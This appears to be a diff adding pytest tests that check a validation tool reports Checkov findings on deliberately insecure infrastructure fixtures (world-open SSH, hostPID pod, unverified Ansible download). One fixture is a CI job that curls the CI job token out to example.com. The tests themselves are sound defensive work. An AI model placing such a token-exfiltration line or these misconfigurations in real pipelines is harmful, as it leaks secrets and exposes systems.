@@ -164,6 +164,80 @@ def test_checkov_finds_what_is_open_to_the_world_and_runs_none_of_the_repository
     assert again.value["findings"] == said.value["findings"]
 
 
+STACK = """\
+AWSTemplateFormatVersion: "2010-09-09"
+Resources:
+  Open:
+    Type: AWS::EC2::SecurityGroup
+    Properties:
+      GroupDescription: everybody
+      SecurityGroupIngress:
+        - {IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: 0.0.0.0/0}
+"""
+JOB = """\
+build:
+  image: python:3.11
+  script:
+    - curl -d "$CI_JOB_TOKEN" https://example.com
+"""
+PLAY = """\
+- name: Fetch
+  hosts: all
+  tasks:
+    - name: Get it
+      ansible.builtin.get_url:
+        url: https://example.com/x
+        dest: /tmp/x
+        mode: "0644"
+        validate_certs: false
+"""
+PATCH = """\
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: web}
+spec: {template: {spec: {containers: [{name: web, resources: {limits: {memory: 64Mi}}}]}}}
+"""
+
+
+def by_checkov(said: Said) -> set[tuple[str, str]]:
+    return {
+        (each["rule"].removeprefix("checkov/"), each["untrusted_place"])
+        for each in found(said)["findings"]
+        if each["rule"].startswith("checkov/")
+    }
+
+
+def test_checkov_looks_at_each_kind_of_file_that_it_knows_and_at_no_part_that_was_not_asked_for(
+    shop: Repository,
+) -> None:
+    shop.write("api/Containerfile", "FROM python:3.11-slim\nRUN true\n")
+    shop.write("stack.yaml", STACK)
+    shop.write(".gitlab-ci.yml", JOB)
+    shop.write("site.yml", PLAY)
+    manifest = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web"}, "spec": {"hostPID": True}}
+    shop.write("pod.json", json.dumps(manifest))
+    shop.write("over/kustomization.yaml", "resources: [web.yaml]\npatches: [{path: patch.yaml}]\n")
+    shop.write("over/patch.yaml", PATCH)
+    play, pod = ("CKV_ANSIBLE_2", "site.yml:4"), ("CKV_K8S_17", "pod.json:1")
+    assert {
+        ("CKV_DOCKER_3", "api/Containerfile:1"),
+        ("CKV_AWS_24", "stack.yaml:3"),
+        ("CKV_GITLABCI_1", ".gitlab-ci.yml:4"),
+        play,
+        pod,
+    } <= by_checkov(shop.validate("--limit", "1000", code=8))
+    alone = by_checkov(shop.validate("kubernetes", "--limit", "1000", code=8))
+    assert pod in alone and {place for _, place in alone} == {"pod.json:1"}
+    assert play in by_checkov(shop.validate("ansible", code=8))
+    assert not any("K8S" in rule for rule, _ in by_checkov(shop.validate("ansible", code=8)))
+
+
+def test_what_no_framework_of_checkov_takes_is_not_said_to_be_checked_by_it(shop: Repository) -> None:
+    shop.write("infra/main.tofu", QUEUE)
+    shop.write("arm.json", '{"$schema": "https://schema.management.azure.com/x", "resources": []}')
+    assert "checkov" not in {each["checker"] for each in found(shop.validate())["checks"]}
+
+
 def test_a_warm_checkov_answers_about_the_repository_that_was_asked_about(shop: Repository) -> None:
     shop.write("infra/budget.tf", BUDGET)
     shop.write("infra/main.tf", PROVIDER + QUEUE)
